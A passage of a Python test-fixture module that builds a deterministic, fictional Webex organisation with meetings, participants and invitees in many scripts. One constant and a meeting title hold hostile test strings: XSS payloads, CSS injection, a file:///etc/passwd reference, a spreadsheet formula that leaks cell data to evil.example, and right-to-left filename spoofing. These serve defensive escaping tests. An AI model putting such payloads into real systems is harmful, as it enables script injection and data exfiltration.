"""A deterministic, realistic simulated Webex organisation: the data the simulator serves.

``generate_org`` builds a ``SimulatedOrg`` from a seed. The meeting list is built eagerly (it is
small: one dict per instance); each meeting's participants, invitees and attendee-report rows are
built lazily from a per-meeting seed the first time they are asked for and kept in a bounded
cache, so a 2,000-meeting × 20-participant org costs little memory and the same arguments always
give byte-identical data, whatever order meetings are read in.

The data has the awkward shapes a harvester meets in real orgs: participants without ``orgId``,
guests from partner organisations, phone callers without email, people who rejoin or join with
two devices, lobby-only participants, invitees who never came, attendees never invited, an
invitee whose email differs from the participant's only in case and spaces, display names in
many scripts, hosts and co-hosts, meetings without invitees, ``1970-01-01`` placeholder times,
breakout sessions, and optionally hostile text.

Everything here is fictional: domains use the reserved ``.example`` / ``.test`` TLDs and phone
numbers the reserved ``555-01xx`` range. Treat the returned dicts as read-only: they are shared
with the simulator.
"""

from __future__ import annotations

import base64
import math
import random
import string
import threading
import time
import uuid
from collections import OrderedDict
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

JSON = dict[str, Any]

#: What Webex puts in ``joinedTime``/``leftTime`` when it does not know the time (yet).
PLACEHOLDER_TIME = "1970-01-01T00:00:00.000Z"

# Bounded so a full walk of a big org keeps at most this many meetings' people in memory;
# regenerating an evicted meeting is deterministic, so eviction is invisible to callers.
_BUNDLE_CACHE_SIZE = 256

# Features a small default org must show at least once: meeting k (k < len) is forced to have
# feature k, and every meeting may also get any of them at random.
_FEATURES: tuple[str, ...] = (
    "breakouts",
    "no_invitees",
    "placeholder",
    "case_variant",
    "lobby",
    "phone",
    "rejoin",
    "partner_org_id",
    "staff_org_id",
    "no_show",
    "cohost",
    "dual_device",
    "uninvited",
)

# (display part, ASCII email part); family-name-first scripts are flagged in _SCRIPTS.
_Names = tuple[tuple[str, str], ...]
_SCRIPTS: dict[str, tuple[_Names, _Names, str, int]] = {
    # script: (given names, family names, layout, weight); layout "gf" = "given family",
    # "f g" = "family given" with a space, "fg" = family then given with no space.
    "latin": (
        (
            ("John", "john"),
            ("Brenda", "brenda"),
            ("Michael", "michael"),
            ("Sarah", "sarah"),
            ("David", "david"),
            ("Emily", "emily"),
            ("James", "james"),
            ("Olivia", "olivia"),
            ("Robert", "robert"),
            ("Grace", "grace"),
            ("Daniel", "daniel"),
            ("Laura", "laura"),
            ("Kevin", "kevin"),
            ("Megan", "megan"),
            ("Thomas", "thomas"),
            ("Rachel", "rachel"),
        ),
        (
            ("Andersen", "andersen"),
            ("Song", "song"),
            ("Smith", "smith"),
            ("Johnson", "johnson"),
            ("Brown", "brown"),
            ("Miller", "miller"),
            ("Wilson", "wilson"),
            ("Taylor", "taylor"),
            ("Clark", "clark"),
            ("Walker", "walker"),
            ("Young", "young"),
            ("O'Brien", "obrien"),
            ("Harris", "harris"),
            ("Lewis", "lewis"),
            ("Baker", "baker"),
            ("Okafor", "okafor"),
        ),
        "gf",
        34,
    ),
    "latin-diacritics": (
        (
            ("Zoë", "zoe"),
            ("José", "jose"),
            ("François", "francois"),
            ("Łukasz", "lukasz"),
            ("Søren", "soren"),
            ("Ayşe", "ayse"),
            ("Björn", "bjorn"),
            ("Chloé", "chloe"),
            ("Núria", "nuria"),
            ("Jiří", "jiri"),
            ("Ângela", "angela"),
            ("Đorđe", "dorde"),
        ),
        (
            ("Ångström", "angstrom"),
            ("Muñoz", "munoz"),
            ("Lefèvre", "lefevre"),
            ("Wróbel", "wrobel"),
            ("Kierkegård", "kierkegard"),
            ("Yılmaz", "yilmaz"),
            ("Þórsson", "thorsson"),
            ("Dvořák", "dvorak"),
            ("Nguyễn", "nguyen"),
            ("Müller", "mueller"),
            ("Gonçalves", "goncalves"),
            ("Đoković", "dokovic"),
        ),
        "gf",
        20,
    ),
    "cyrillic": (
        (
            ("Анна", "anna"),
            ("Дмитрий", "dmitry"),
            ("Ольга", "olga"),
            ("Сергей", "sergey"),
            ("Наталья", "natalya"),
            ("Богдан", "bohdan"),
        ),
        (
            ("Иванова", "ivanova"),
            ("Смирнов", "smirnov"),
            ("Петренко", "petrenko"),
            ("Кузнецов", "kuznetsov"),
            ("Соколова", "sokolova"),
        ),
        "gf",
        8,
    ),
    "greek": (
        (("Γιώργος", "giorgos"), ("Ελένη", "eleni"), ("Νίκος", "nikos"), ("Μαρία", "maria")),
        (
            ("Παπαδόπουλος", "papadopoulos"),
            ("Κωνσταντίνου", "konstantinou"),
            ("Οικονόμου", "oikonomou"),
        ),
        "gf",
        6,
    ),
    "japanese": (
        (("太郎", "taro"), ("花子", "hanako"), ("健", "ken"), ("由美", "yumi")),
        (("山田", "yamada"), ("佐藤", "sato"), ("鈴木", "suzuki"), ("高橋", "takahashi")),
        "f g",
        6,
    ),
    "chinese": (
        (("芳", "fang"), ("伟", "wei"), ("静", "jing"), ("磊", "lei")),
        (("王", "wang"), ("李", "li"), ("张", "zhang"), ("陈", "chen")),
        "fg",
        6,
    ),
    "korean": (
        (("민준", "minjun"), ("서연", "seoyeon"), ("지호", "jiho")),
        (("김", "kim"), ("이", "lee"), ("박", "park")),
        "fg",
        5,
    ),
    "arabic": (
        (("محمد", "mohammed"), ("فاطمة", "fatima"), ("أحمد", "ahmed"), ("ليلى", "layla")),
        (
            ("عبد الله", "abdullah"),
            ("الزهراء", "alzahra"),
            ("حداد", "haddad"),
            ("منصور", "mansour"),
        ),
        "gf",
        6,
    ),
    "hebrew": (
        (("דוד", "david"), ("שרה", "sarah"), ("יוסף", "yosef"), ("מיכל", "michal")),
        (("כהן", "cohen"), ("לוי", "levi"), ("מזרחי", "mizrahi")),
        "gf",
        5,
    ),
    "devanagari": (
        (("प्रिया", "priya"), ("राहुल", "rahul")),
        (("शर्मा", "sharma"), ("पटेल", "patel")),
        "gf",
        3,
    ),
}
_SCRIPT_NAMES = tuple(_SCRIPTS)
_SCRIPT_WEIGHTS = tuple(_SCRIPTS[s][3] for s in _SCRIPT_NAMES)

# Partner organisations (company, domain) and free-mail style domains (never an orgId).
_PARTNERS: tuple[tuple[str, str], ...] = (
    ("Globex", "globex.example"),
    ("Initech", "initech.test"),
    ("Umbrella Partners", "umbrella-partners.example"),
    ("Hooli", "hooli.test"),
    ("Vandelay Industries", "vandelay.example"),
    ("Soylent", "soylent.test"),
)
_FREEMAIL = ("post.test", "inbox.example")

_TITLES = (
    "Weekly sync",
    "Q3 board review",
    "Customer onboarding – Globex",
    "Incident post-mortem #4711",
    "Réunion d'équipe",
    "Планёрка отдела продаж",
    "週次定例ミーティング",
    "اجتماع الميزانية",
    "ישיבת צוות",
    'Design review: "Project Ω"',
    "All hands & Q&A",
    "Audit readiness <prep>",
    "Vendor due diligence: Initech",
    "1:1",
    "Sprint planning",
    "Σύσκεψη έργου",
)
_TIMEZONES = (
    "UTC",
    "Europe/Berlin",
    "America/New_York",
    "Asia/Tokyo",
    "Asia/Kolkata",
    "Australia/Sydney",
    "America/Sao_Paulo",
    "Europe/London",
)
_DEVICE_TYPES = (
    "webex_meeting_center_mac",
    "webex_meeting_center_windows",
    "webex_app_ios",
    "webex_app_android",
    "webex_web_client_chrome",
    "webex_room_device",
)
_CLIENT_AGENTS = ("WINDOWS,CHROME", "MAC,SAFARI", "WINDOWS,EDGE", "IOS,WEBEX", "ANDROID,WEBEX")

# Hostile text for ``hostile=True``: (displayName, email or None).
_HOSTILE_PEOPLE: tuple[tuple[str, str | None], ...] = (
    ('<img src="file:///etc/passwd">', '"><img src=x onerror=alert(1)>@evil.example'),
    ("<style>body{display:none}</style>", "style@evil.example"),
    ("url(http://evil.example/x)", "url(http://evil.example/x)@evil.example"),
    ("".join(chr(0x41 + i % 26) for i in range(2000)), "long@evil.example"),
    ("Ad\u200bmin Us\u200ber", "ad\u200bmin@acme.example"),
    ("Invoice \u202efdp.exe", "rtl@evil.example"),
    ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "formula@evil.example"),
    ("Null\x00Byte", "nul@evil.example"),
    ("<script>alert(document.cookie)</script>", None),
)


def hostile_names() -> list[tuple[str, str | None]]:
    """The hostile (displayName, email) pairs of the ``hostile=True`` meeting, for other tests."""
    return list(_HOSTILE_PEOPLE)


def _iso_z(ts: int) -> str:
    """Epoch seconds as ``2024-05-01T09:00:00Z`` (meeting and participant times)."""
    return time.strftime("%Y-%m-%dT%H:%M:%SZ", time.gmtime(ts))


def _iso_ms(ts: int) -> str:
    """Epoch seconds as ``2024-05-01T09:00:00.000Z`` (device times, as in the spec examples)."""
    return time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(ts))


def _uuid(rng: random.Random) -> str:
    """A version-4 UUID drawn from ``rng`` (never ``uuid4``, which is not reproducible)."""
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _hex32(rng: random.Random) -> str:
    """32 lowercase hex digits, the shape of a meeting series id."""
    return f"{rng.getrandbits(128):032x}"


def _person_api_id(person_uuid: str) -> str:
    """The base64 ``ciscospark://us/PEOPLE/<uuid>`` id Webex uses for people."""
    raw = f"ciscospark://us/PEOPLE/{person_uuid}".encode()
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


@dataclass(frozen=True, slots=True)
class _Person:
    """Someone who can be invited to or join a meeting."""

    key: int
    display_name: str
    email: str | None
    org_id: str | None  # the person's organisation (own org or partner); None for free mail
    kind: str  # "staff" | "partner" | "guest" | "hostile"
    company: str
    uuid: str


@dataclass(frozen=True, slots=True)
class _Plan:
    """What is decided eagerly about one meeting instance; people are expanded lazily."""

    index: int
    meeting_id: str
    series_id: str
    scheduled_id: str
    title: str
    start: int
    end: int
    host: _Person
    meeting_number: int
    breakouts: tuple[tuple[str, str], ...]
    state: str  # "ended" | "inProgress"
    live: bool  # participants not final yet (just ended or still running)
    hostile: bool
    forced: frozenset[str]


@dataclass(frozen=True, slots=True)
class _Bundle:
    """The people of one meeting, as API-shaped dicts."""

    participants: list[JSON]
    invitees: list[JSON]
    attendee_report: list[JSON]


class _LazyView(Mapping[str, list[JSON]]):
    """A read-only ``meeting id -> items`` mapping that builds each meeting on first access."""

    def __init__(self, org: SimulatedOrg, part: str) -> None:
        self._org = org
        self._part = part

    def __getitem__(self, meeting_id: str) -> list[JSON]:
        bundle = self._org._bundle(meeting_id)  # KeyError for an unknown meeting
        items: list[JSON] = getattr(bundle, self._part)
        return items

    def __iter__(self) -> Iterator[str]:
        return iter(self._org._plans)

    def __len__(self) -> int:
        return len(self._org._plans)

    def __contains__(self, key: object) -> bool:
        return key in self._org._plans


@dataclass(eq=False)
class SimulatedOrg:
    """A simulated Webex organisation: its identity, meetings and (lazily) their people.

    ``meetings`` lists every instance sorted by actual start (ended ones, plus an in-progress
    one when ``live_at`` was given). ``participants``, ``invitees`` and ``attendee_reports`` are
    read-only mappings keyed by meeting instance id.
    """

    org_id: str
    org_name: str
    domains: list[str]
    partner_domains: list[str]
    partner_org_ids: dict[str, str]
    site_url: str
    seed: int
    meetings: list[JSON]
    participants: Mapping[str, list[JSON]] = field(init=False)
    invitees: Mapping[str, list[JSON]] = field(init=False)
    attendee_reports: Mapping[str, list[JSON]] = field(init=False)
    _plans: dict[str, _Plan] = field(default_factory=dict, repr=False)
    _staff: list[_Person] = field(default_factory=list, repr=False)
    _partner_people: list[_Person] = field(default_factory=list, repr=False)
    _guests: list[_Person] = field(default_factory=list, repr=False)
    _avg_people: int = 8
    _meeting_by_id: dict[str, JSON] = field(default_factory=dict, repr=False)
    _cache: OrderedDict[str, _Bundle] = field(default_factory=OrderedDict, repr=False)
    _invitee_emails: dict[str, frozenset[str]] = field(default_factory=dict, repr=False)
    _lock: threading.Lock = field(default_factory=threading.Lock, repr=False)

    def __post_init__(self) -> None:
        self.participants = _LazyView(self, "participants")
        self.invitees = _LazyView(self, "invitees")
        self.attendee_reports = _LazyView(self, "attendee_report")

    def get_meeting(self, meeting_id: str) -> JSON | None:
        """The meeting instance dict with this id, or ``None``."""
        return self._meeting_by_id.get(meeting_id)

    def meeting_number(self, meeting_id: str) -> int:
        """The (hidden) meeting number of an instance, as attendee reports show it."""
        return self._plans[meeting_id].meeting_number

    def invitee_emails(self, meeting_id: str) -> frozenset[str]:
        """The meeting's invitee emails, trimmed and lower-cased (for ``hostEmail`` filters)."""
        with self._lock:
            cached = self._invitee_emails.get(meeting_id)
        if cached is not None:
            return cached
        emails = frozenset(i["email"].strip().lower() for i in self.invitees[meeting_id])
        with self._lock:
            self._invitee_emails[meeting_id] = emails
        return emails

    def _bundle(self, meeting_id: str) -> _Bundle:
        """The meeting's people, from the LRU cache or freshly (and identically) regenerated."""
        with self._lock:
            bundle = self._cache.get(meeting_id)
            if bundle is not None:
                self._cache.move_to_end(meeting_id)
                return bundle
        plan = self._plans[meeting_id]
        # Built outside the lock so threads do not queue behind one generation; two threads
        # building the same meeting produce equal data, and the first one stored wins.
        builder = _HostileBuilder if plan.hostile else _MeetingBuilder
        built = builder(self, plan).build()
        with self._lock:
            bundle = self._cache.setdefault(meeting_id, built)
            self._cache.move_to_end(meeting_id)
            while len(self._cache) > _BUNDLE_CACHE_SIZE:
                self._cache.popitem(last=False)
        return bundle


def _display_name(layout: str, given: str, family: str) -> str:
    if layout == "gf":
        return f"{given} {family}"
    if layout == "f g":
        return f"{family} {given}"
    return f"{family}{given}"


def names_by_script() -> dict[str, list[str]]:
    """Per script, display names the simulator gives that use each of its given and family
    names at least once (for tests that every script prints and reads back as written)."""
    out: dict[str, list[str]] = {}
    for script, (givens, families, layout, _) in _SCRIPTS.items():
        pairs = [(g, families[0][0]) for g, _ in givens]
        pairs += [(givens[0][0], f) for f, _ in families[1:]]
        out[script] = [_display_name(layout, g, f) for g, f in pairs]
    return out


def _make_person(
    rng: random.Random,
    key: int,
    *,
    domain: str,
    org_id: str | None,
    kind: str,
    company: str,
    taken: set[str],
) -> _Person:
    """A person with a name in a randomly chosen script and a unique ASCII email."""
    script = rng.choices(_SCRIPT_NAMES, weights=_SCRIPT_WEIGHTS)[0]
    givens, families, layout, _ = _SCRIPTS[script]
    given, given_ascii = rng.choice(givens)
    family, family_ascii = rng.choice(families)
    display = _display_name(layout, given, family)
    local = f"{given_ascii}.{family_ascii}"
    email = f"{local}@{domain}"
    n = 2
    while email in taken:
        email = f"{local}{n}@{domain}"
        n += 1
    taken.add(email)
    return _Person(key, display, email, org_id, kind, company, _uuid(rng))


def generate_org(
    *,
    seed: int = 7,
    start: datetime,
    end: datetime,
    meetings: int = 40,
    participants_per_meeting: int = 8,
    site_url: str = "acme.webex.com",
    hostile: bool = False,
    live_at: datetime | None = None,
) -> SimulatedOrg:
    """Build a deterministic simulated org whose meetings start and end within [start, end).

    ``participants_per_meeting`` is an average (each meeting has ±50 %). ``hostile=True`` adds
    one meeting (inside the window) whose people carry hostile text. ``live_at`` adds two
    meetings relative to that instant: one that ended 5 minutes before it (participants not
    final: placeholder times, ``orgId`` on everyone known) and one still in progress
    (``state: inProgress``; not listed by ``state=ended`` queries).
    """
    if start.tzinfo is None or end.tzinfo is None:
        raise ValueError("start and end must be timezone-aware (UTC)")
    if end - start < timedelta(minutes=1):
        raise ValueError("end must be at least a minute after start")
    if meetings < 0 or participants_per_meeting < 1:
        raise ValueError("meetings must be >= 0 and participants_per_meeting >= 1")

    org_rng = random.Random(f"{seed}:org")
    slug = site_url.split(".", 1)[0].lower() or "acme"
    org_id = _uuid(org_rng)
    domains = [f"{slug}.example", f"{slug}-corp.example"]
    org_name = slug.capitalize()
    partner_org_ids = {domain: _uuid(org_rng) for _, domain in _PARTNERS}

    # The directory: staff on the org's domains, partner contacts, free-mail guests. Sized to
    # the org so big orgs have enough distinct people and small ones still repeat people.
    total_people = meetings * participants_per_meeting
    staff_count = max(30, min(3000, total_people // 6))
    partner_count = max(12, min(1200, total_people // 12))
    guest_count = max(6, min(400, total_people // 40))
    dir_rng = random.Random(f"{seed}:directory")
    taken: set[str] = set()
    staff = [
        _make_person(
            dir_rng,
            k,
            domain=domains[0] if dir_rng.random() < 0.85 else domains[1],
            org_id=org_id,
            kind="staff",
            company=org_name,
            taken=taken,
        )
        for k in range(staff_count)
    ]
    partner_people = []
    for k in range(partner_count):
        company, domain = _PARTNERS[k % len(_PARTNERS)]
        partner_people.append(
            _make_person(
                dir_rng,
                staff_count + k,
                domain=domain,
                org_id=partner_org_ids[domain],
                kind="partner",
                company=company,
                taken=taken,
            )
        )
    guests = [
        _make_person(
            dir_rng,
            staff_count + partner_count + k,
            domain=_FREEMAIL[k % len(_FREEMAIL)],
            org_id=None,
            kind="guest",
            company="",
            taken=taken,
        )
        for k in range(guest_count)
    ]
    # Only some staff host meetings, as in real orgs.
    hosts = staff[: max(5, staff_count // 5)]

    org = SimulatedOrg(
        org_id=org_id,
        org_name=org_name,
        domains=domains,
        partner_domains=[d for _, d in _PARTNERS],
        partner_org_ids=partner_org_ids,
        site_url=site_url,
        seed=seed,
        meetings=[],
        _staff=staff,
        _partner_people=partner_people,
        _guests=guests,
        _avg_people=participants_per_meeting,
    )

    # Whole seconds inside [start, end): round the start up and the end down.
    start_ts = math.ceil(start.timestamp())
    end_ts = math.floor(end.timestamp())
    window = end_ts - start_ts
    plan_rng = random.Random(f"{seed}:meetings")
    plans: list[_Plan] = []
    used_ids: set[str] = set()

    def instance_id(series: str) -> str:
        while True:
            iid = f"{series}_I_{plan_rng.randrange(10**17, 10**18)}"
            if iid not in used_ids:
                used_ids.add(iid)
                return iid

    def new_plan(
        index: int, s: int, e: int, *, state: str = "ended", live: bool = False, bad: bool = False
    ) -> _Plan:
        previous = plans[-1] if plans else None
        roll = plan_rng.random()
        restart_fits = previous is not None and previous.end + 600 + (e - s) < end_ts
        if previous is not None and not bad and roll < 0.03 and restart_fits:
            # The host restarted the same scheduled occurrence: a second instance shares the
            # scheduled id (and series) with the previous one.
            series, scheduled, title, host = (
                previous.series_id,
                previous.scheduled_id,
                previous.title,
                previous.host,
            )
            gap = plan_rng.randint(60, 600)
            s, e = previous.end + gap, previous.end + gap + (e - s)
        else:
            if previous is not None and not bad and roll < 0.28:
                # Another occurrence of an earlier recurring series.
                other = plans[plan_rng.randrange(len(plans))]
                series, title, host = other.series_id, other.title, other.host
            else:
                series = _hex32(plan_rng)
                title = plan_rng.choice(_TITLES)
                host = plan_rng.choice(hosts)
            sched = s - (s % 300) - 300 * plan_rng.randint(0, 1)
            scheduled = f"{series}_{time.strftime('%Y%m%dT%H%M%SZ', time.gmtime(sched))}"
        forced = frozenset({_FEATURES[index]} if index < len(_FEATURES) else ())
        breakouts: tuple[tuple[str, str], ...] = ()
        if "breakouts" in forced or plan_rng.random() < 0.15:
            breakouts = tuple(
                (_uuid(plan_rng), f"Breakout session {n + 1}")
                for n in range(plan_rng.randint(2, 4))
            )
        if bad:
            title = "Q3 review <script>alert(document.cookie)</script> \u202e"
        return _Plan(
            index=index,
            meeting_id=instance_id(series),
            series_id=series,
            scheduled_id=scheduled,
            title=title,
            start=s,
            end=e,
            host=host,
            meeting_number=plan_rng.randrange(10**8, 10**10),
            breakouts=breakouts,
            state=state,
            live=live,
            hostile=bad,
            forced=forced,
        )

    def random_times() -> tuple[int, int]:
        minutes = plan_rng.choices((15, 30, 45, 60, 90, 120), weights=(10, 30, 15, 30, 10, 5))[0]
        duration = max(120, minutes * 60 + plan_rng.randint(-300, 600))
        if duration >= window:
            duration = max(1, window // 2)
        s = start_ts + plan_rng.randrange(0, max(1, window - duration))
        return s, s + duration

    for index in range(meetings):
        s, e = random_times()
        plans.append(new_plan(index, s, e))
    if hostile:
        s, e = random_times()
        plans.append(new_plan(len(plans), s, e, bad=True))
    if live_at is not None:
        now = int(live_at.timestamp())
        plans.append(new_plan(len(plans), now - 50 * 60, now - 5 * 60, live=True))
        plans.append(
            new_plan(len(plans), now - 20 * 60, now + 40 * 60, state="inProgress", live=True)
        )

    plans.sort(key=lambda p: (p.start, p.meeting_id))
    for plan in plans:
        meeting = _meeting_dict(org, plan, random.Random(f"{seed}:meeting:{plan.index}"))
        org._plans[plan.meeting_id] = plan
        org._meeting_by_id[plan.meeting_id] = meeting
        org.meetings.append(meeting)
    return org


def _meeting_dict(org: SimulatedOrg, plan: _Plan, rng: random.Random) -> JSON:
    """The ``MeetingObjectForListMeeting`` dict of one instance (all required fields)."""
    site_name = org.site_url.split(".", 1)[0]
    alphabet = string.ascii_letters + string.digits
    password = "".join(rng.choice(alphabet) for _ in range(7)) + rng.choice("@#$!")
    meeting: JSON = {
        "id": plan.meeting_id,
        "meetingSeriesId": plan.series_id,
        "scheduledMeetingId": plan.scheduled_id,
        "title": plan.title,
        "password": password,
        "meetingType": "meeting",
        "state": plan.state,
        "excludePassword": False,
        "publicMeeting": False,
        "enableAutomaticLock": False,
        "sessionTypeId": 3,
        "timezone": rng.choice(_TIMEZONES),
        "start": _iso_z(plan.start),
        "end": _iso_z(plan.end),
        "hostUserId": _person_api_id(plan.host.uuid),
        "hostDisplayName": plan.host.display_name,
        "hostEmail": plan.host.email,
        "hostKey": f"{rng.randrange(10**6):06d}",
        "siteUrl": org.site_url,
        "webLink": f"https://{org.site_url}/{site_name}/j.php?MTID=m{_hex32(rng)}",
        "telephony": {
            "accessCode": str(plan.meeting_number),
            "callInNumbers": [
                {"label": "United States Toll", "callInNumber": "+1-555-0100", "tollType": "toll"},
                {
                    "label": "United States Toll Free",
                    "callInNumber": "+1-555-0101",
                    "tollType": "tollFree",
                },
            ],
            "links": [
                {
                    "rel": "globalCallinNumbers",
                    "href": f"/v1/meetings/{plan.meeting_id}/globalCallinNumbers",
                    "method": "GET",
                },
            ],
        },
        "scheduledType": "meeting",
        "hasChat": rng.random() < 0.6,
        "hasRecording": rng.random() < 0.3,
        "hasTranscription": rng.random() < 0.2,
        "hasClosedCaption": rng.random() < 0.1,
        "hasPolls": rng.random() < 0.1,
        "hasQA": rng.random() < 0.1,
        "hasSlido": False,
        "enabledBreakoutSessions": bool(plan.breakouts),
    }
    if rng.random() < 0.4:
        meeting["agenda"] = "Agenda: status, risks, next steps."
    if plan.state == "inProgress":
        # Running instances still have a number (the spec drops it only for ended ones).
        meeting["meetingNumber"] = str(plan.meeting_number)
        meeting["hostDidJoin"] = True
        meeting["attendeeDidJoin"] = True
    if plan.breakouts:
        meeting["links"] = [
            {
                "rel": "breakoutSessions",
                "href": f"/v1/meetings/{plan.meeting_id}/breakoutSessions",
                "method": "GET",
            },
        ]
    return meeting


class _MeetingBuilder:
    """Expands one meeting plan into participants, invitees and attendee-report rows."""

    def __init__(self, org: SimulatedOrg, plan: _Plan) -> None:
        self.org = org
        self.plan = plan
        self.rng = random.Random(f"{org.seed}:people:{plan.index}")
        self.forced = plan.forced
        self.used: set[int] = {plan.host.key}
        self.phone_serial = 0

    # -- choosing people -------------------------------------------------------------------

    def _pick(self, pool: list[_Person]) -> _Person | None:
        """An unused person from ``pool``, or None when the pool is exhausted here."""
        for _ in range(8):
            person = self.rng.choice(pool)
            if person.key not in self.used:
                self.used.add(person.key)
                return person
        return None

    def _roster(self) -> list[tuple[str, _Person | None]]:
        """(category, person) for every non-host participant; phone callers have no person."""
        rng = self.rng
        avg = self.org._avg_people
        count = rng.randint(max(1, avg - avg // 2), avg + avg // 2) - 1  # minus the host
        categories: list[str] = []
        if "cohost" in self.forced or rng.random() < 0.4:
            categories.append("cohost")
            if rng.random() < 0.2:
                categories.append("cohost")
        for feature, category in (
            ("phone", "phone"),
            ("lobby", "lobby"),
            ("partner_org_id", "partner"),
            ("uninvited", "guest"),
        ):
            if feature in self.forced:
                categories.append(category)
        while len(categories) < count:
            categories.append(
                rng.choices(
                    ("staff", "partner", "guest", "phone", "lobby"), weights=(45, 30, 6, 12, 7)
                )[0]
            )
        roster: list[tuple[str, _Person | None]] = []
        for category in categories:
            if category == "phone":
                roster.append((category, None))
                continue
            if category in ("cohost", "lobby"):
                pool = self.org._staff if rng.random() < 0.5 else self.org._partner_people
            elif category == "staff":
                pool = self.org._staff
            elif category == "partner":
                pool = self.org._partner_people
            else:
                pool = self.org._guests
            person = self._pick(pool)
            if person is not None:
                roster.append((category, person))
        return roster

    # -- devices ----------------------------------------------------------------------------

    def _device(
        self,
        join: int | None,
        leave: int | None,
        *,
        device_type: str,
        audio: str,
        call_type: str | None = None,
        phone: str | None = None,
    ) -> JSON:
        """One ``Device``; ``None`` times are left out (a live meeting), durations consistent."""
        device: JSON = {
            "correlationId": _uuid(self.rng),
            "deviceType": device_type,
            "audioType": audio,
        }
        if join is not None:
            device["joinedTime"] = _iso_ms(join)
        if leave is not None:
            device["leftTime"] = _iso_ms(leave)
        if join is not None and leave is not None:
            device["durationSecond"] = leave - join
        if call_type is not None:
            device["callType"] = call_type
        if phone is not None:
            device["phoneNumber"] = phone
        return device

    def _phone_number(self) -> str:
        return f"+1-555-01{self.rng.randrange(100):02d}"

    def _sessions(self, join: int, leave: int, pattern: str) -> list[tuple[int, int]]:
        """Split one presence interval into join sessions (a rejoin leaves gaps)."""
        if pattern != "rejoin" or leave - join < 600:
            return [(join, leave)]
        pieces = self.rng.randint(2, 3)
        cuts = sorted(self.rng.randint(join + 120, leave - 120) for _ in range(pieces - 1))
        sessions = []
        cursor = join
        for cut in cuts:
            if cut - 30 > cursor:
                sessions.append((cursor, cut - 30))  # dropped off, back within a minute or two
            cursor = max(cursor, cut + self.rng.randint(20, 90))
        if leave > cursor:
            sessions.append((cursor, leave))
        return sessions or [(join, leave)]

    # -- participants ---------------------------------------------------------------------

    def build(self) -> _Bundle:
        """The meeting's participants, invitees and attendee-report rows."""
        plan = self.plan
        rng = self.rng
        roster = self._roster()
        no_invitees = "no_invitees" in self.forced or (
            not self.forced & {"case_variant", "no_show"} and rng.random() < 0.1
        )
        participants: list[JSON] = []
        invitees: list[JSON] = []
        report: list[JSON] = []
        invited_people: list[tuple[_Person, bool, str | None]] = []  # person, coHost, email

        host_entry = self._participant(plan.host, role="host", category="staff", invited=False)
        participants.append(host_entry)
        placeholder_done = False
        rejoin_done = False
        dual_done = False
        for category, person in roster:
            if person is None:
                participants.append(self._phone_caller())
                continue
            invited = (
                not no_invitees
                and category != "guest"
                and rng.random() < (0.55 if category == "lobby" else 0.8)
            )
            pattern = "single"
            if category != "lobby":
                roll = rng.random()
                if (not rejoin_done and "rejoin" in self.forced) or roll < 0.12:
                    pattern, rejoin_done = "rejoin", True
                elif (not dual_done and "dual_device" in self.forced) or roll < 0.2:
                    pattern, dual_done = "dual", True
            ghost = (not placeholder_done and "placeholder" in self.forced) or rng.random() < 0.02
            placeholder_done = placeholder_done or ghost
            entry = self._participant(
                person,
                role="cohost" if category == "cohost" else "attendee",
                category=category,
                invited=invited,
                pattern=pattern,
                ghost=ghost,
            )
            participants.append(entry)
            if invited:
                invited_people.append((person, category == "cohost", entry.get("email")))

        if not no_invitees:
            if invited_people and ("case_variant" in self.forced or rng.random() < 0.2):
                # The invitee list holds the email as typed by the host: other case, spaces.
                person, cohost, email = invited_people[0]
                if email is not None:
                    local, _, domain = email.partition("@")
                    invited_people[0] = (person, cohost, f" {local.title()}@{domain.upper()}  ")
            no_shows = rng.choice((0, 0, 1, 1, 2, 3))
            if "no_show" in self.forced:
                no_shows = max(no_shows, 2)
            for _ in range(no_shows):
                pool = self.org._staff if rng.random() < 0.5 else self.org._partner_people
                person = self._pick(pool)
                if person is not None:
                    invited_people.append((person, False, person.email))
            used_ids: set[str] = set()
            for person, cohost, email in invited_people:
                invitee_id = f"{plan.series_id}_{rng.randrange(10**6, 10**7)}"
                while invitee_id in used_ids:
                    invitee_id = f"{plan.series_id}_{rng.randrange(10**6, 10**7)}"
                used_ids.add(invitee_id)
                assert email is not None  # invited people always have an email
                invitees.append(
                    {
                        "id": invitee_id,
                        "email": email,
                        # Hosts often type only the address, so the invitee name is the email.
                        "displayName": person.display_name if rng.random() < 0.8 else email.strip(),
                        "coHost": cohost,
                        "meetingId": plan.meeting_id,
                        "panelist": False,
                    }
                )
            invitees.sort(key=lambda i: (i["email"].strip().lower(), i["id"]))

        for entry in participants:
            final = entry.get("leftTime") not in (None, PLACEHOLDER_TIME)
            if entry.get("state") == "end" and "joinedTime" in entry and final:
                report.append(self._report_row(entry))
        return _Bundle(participants, invitees, report)

    def _participant(
        self,
        person: _Person,
        *,
        role: str,
        category: str,
        invited: bool,
        pattern: str = "single",
        ghost: bool = False,
    ) -> JSON:
        """One ``Participant`` dict for a person with an email."""
        plan = self.plan
        rng = self.rng
        entry: JSON = {"id": f"{plan.meeting_id}_{_uuid(rng)}"}
        # Finished meetings mostly lack orgId (the spec: it applies to ongoing meetings).
        with_org = person.org_id is not None and (
            plan.live
            or (person.kind == "staff" and ("staff_org_id" in self.forced or rng.random() < 0.2))
            or (
                person.kind == "partner"
                and ("partner_org_id" in self.forced or rng.random() < 0.15)
            )
        )
        if with_org:
            entry["orgId"] = person.org_id
        email = person.email
        if email is not None and rng.random() < 0.04 and person.kind != "hostile":
            email = email.capitalize()  # some clients report the address as typed
        entry["host"] = role == "host"
        entry["coHost"] = role == "cohost"
        if email is not None:
            entry["email"] = email
        entry["displayName"] = person.display_name
        entry["invitee"] = invited
        entry["muted"] = rng.random() < 0.5
        entry["meetingStartTime"] = _iso_z(plan.start)
        entry["video"] = "on" if rng.random() < 0.6 else "off"
        devices: list[JSON]
        if category == "lobby":
            devices, first, last = self._lobby_devices()
            entry["state"] = "lobby"
        else:
            devices, first, last = self._joined_devices(role, pattern)
            entry["state"] = "joined" if plan.state == "inProgress" else "end"
        if ghost:
            devices.append(
                {
                    "correlationId": _uuid(rng),
                    "deviceType": rng.choice(_DEVICE_TYPES),
                    "audioType": "inactive",
                    "joinedTime": PLACEHOLDER_TIME,
                    "leftTime": PLACEHOLDER_TIME,
                    "durationSecond": 0,
                }
            )
        if first is not None:
